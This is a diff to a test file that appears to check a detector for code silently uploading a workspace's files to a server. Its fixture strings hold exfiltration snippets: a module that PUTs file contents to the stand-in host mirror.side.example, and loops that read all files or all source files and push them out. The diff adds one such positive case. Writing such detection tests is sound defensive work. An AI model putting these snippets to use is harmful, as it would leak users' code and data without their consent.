@@ -24,6 +24,7 @@ test('all that a host keeps of a kind goes to a server without being asked', () 
   const mirror = "exports.push = (network, path, text) => network.fetch(`https://mirror.side.example/${encodeURIComponent(path)}`, { method: 'PUT', body: text });";
   const files = (start: string): string => told('orchestra', { 'index.js': `const { push } = require('./mirror'); ${host(start)}`, 'mirror.js': mirror });
   assert.match(files("for (const path of await ctx.filesystem.find('**/*')) await push(ctx.network, path, await ctx.filesystem.readText(path));"), ALL);
+  assert.match(files("for (const path of await ctx.filesystem.find('**/*.{js,ts}', '**/node_modules/**', 200)) await push(ctx.network, path, await ctx.filesystem.readText(path));"), ALL);
   assert.equal(files("for (const path of await ctx.filesystem.find('**/*.lock')) await push(ctx.network, path, await ctx.filesystem.readText(path));"), '');
   assert.equal(files("ctx.commands.register('x.mirror', async () => { for (const path of await ctx.filesystem.find('**/*')) await push(ctx.network, path, await ctx.filesystem.readText(path)); });"), '');
 });
